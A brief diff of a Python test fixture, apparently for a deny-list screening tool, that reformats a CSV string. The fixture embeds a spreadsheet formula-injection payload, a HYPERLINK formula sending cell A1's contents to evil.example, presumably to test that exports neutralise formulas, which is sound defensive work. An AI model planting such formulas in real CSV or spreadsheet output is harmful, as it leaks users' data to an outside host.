@@ -44,8 +44,7 @@ ALICE = Actor("user:alice", Role.ANALYST)
 BOB = Actor("user:bob", Role.APPROVER)
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 DENY_LIST = (
-    "id,name,schema,program\n"
-    f'D-1,Zorro Montenegro Vasquez,Person,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
+    f'id,name,schema,program\nD-1,Zorro Montenegro Vasquez,Person,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
 )
 CUSTOMERS = (
     "id,name,schema,birth_date,country\n"
